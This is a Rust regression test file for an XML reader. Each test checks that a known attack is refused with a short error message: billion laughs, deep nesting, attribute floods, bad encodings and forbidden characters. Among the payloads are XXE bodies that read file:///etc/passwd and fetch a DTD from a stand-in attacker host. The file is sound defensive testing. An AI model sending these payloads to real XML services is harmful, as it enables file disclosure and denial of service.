//! Known attacks on XML readers, kept as regression tests: each is refused with a 400 message
//! naming the problem, with a bounded message. That the refusals are quick is shown by where
//! they stop (a body broken past the point of refusal is refused for the earlier reason), not
//! by timing them: a shared machine makes any time bound either flaky or meaningless.

use super::*;

#[track_caller]
fn refused(body: &[u8], expected: &str) {
    let error = parse_document(body, "request").expect_err("an attack must be refused");
    let message = error.to_string();
    assert!(
        message.contains(expected),
        "{message:.200} should mention {expected}"
    );
    assert!(message.len() < 512, "{} bytes of message", message.len());
}

#[test]
fn an_internal_dtd_is_refused() {
    refused(
        br#"<?xml version="1.0"?><!DOCTYPE request [<!ELEMENT request ANY>]><request/>"#,
        "DOCTYPE",
    );
}

#[test]
fn billion_laughs_is_refused_before_any_expansion() {
    let mut body = String::from("<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">");
    for level in 1..10 {
        let previous = format!(
            "&lol{};",
            if level == 1 {
                String::new()
            } else {
                (level - 1).to_string()
            }
        );
        body.push_str(&format!("<!ENTITY lol{level} \"{}\">", previous.repeat(10)));
    }
    body.push_str("]><request>&lol9;</request>");
    refused(body.as_bytes(), "DOCTYPE");
    // Without the DTD the reference names nothing the reader knows.
    refused(b"<request>&lol9;</request>", "&lol9;");
}

#[test]
fn external_entities_are_refused() {
    refused(
        br#"<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><request>&xxe;</request>"#,
        "DOCTYPE",
    );
    refused(
        br#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><request/>"#,
        "DOCTYPE",
    );
    refused(br#"<request a="&xxe;"/>"#, "&xxe;");
}

#[test]
fn nesting_100_000_deep_is_refused() {
    let depth = 100_000;
    let body = format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
    refused(body.as_bytes(), "nested deeper");
}

#[test]
fn many_attributes_are_refused_without_quadratic_work() {
    let mut body = String::from("<request");
    for n in 0..143_000 {
        body.push_str(&format!(" a{n}=\"\""));
    }
    // A reader that looked at every attribute (or compared each with every other) would reach
    // this broken one and name it instead.
    body.push_str(" broken/>");
    refused(body.as_bytes(), "more than 32 attributes");
    refused(b"<request a='1' b='2' a='3'/>", "attribute a twice");
}

#[test]
fn invalid_utf8_and_other_encodings_are_refused() {
    refused(b"<request>\xff\xfe</request>", "UTF-8");
    refused(b"\xff\xfe<\x00r\x00/\x00>\x00", "UTF-8");
    refused(
        br#"<?xml version="1.0" encoding="ISO-8859-1"?><request/>"#,
        "ISO-8859-1",
    );
}

#[test]
fn huge_names_are_refused_with_clipped_messages() {
    let name = "n".repeat(1024 * 1024);
    refused(format!("<{name}/>").as_bytes(), "Root element");
    refused(format!("<request><{name}>").as_bytes(), "not closed");
    refused(format!("<request>&{name};</request>").as_bytes(), "Entity");
}

#[test]
fn characters_xml_cannot_carry_are_refused_raw_or_by_reference() {
    refused(b"<request>&#1;</request>", "&#1;");
    refused(b"<request>&#x0;</request>", "&#x0;");
    refused(b"<request>&#xFFFE;</request>", "&#xFFFE;");
    refused(
        "<request><name>a\u{1}b</name></request>".as_bytes(),
        "Element <name> contains U+0001, a character XML cannot carry.",
    );
    refused(
        "<request><name>x\u{FFFF}</name></request>".as_bytes(),
        "Element <name> contains U+FFFF",
    );
    refused(
        "<request><name><![CDATA[\u{FFFE}]]></name></request>".as_bytes(),
        "Element <name> contains U+FFFE",
    );
}

#[test]
fn too_many_elements_are_refused() {
    let body = format!("<request>{}</request>", "<a/>".repeat(MAX_ELEMENTS + 1));
    refused(body.as_bytes(), "more than");
}
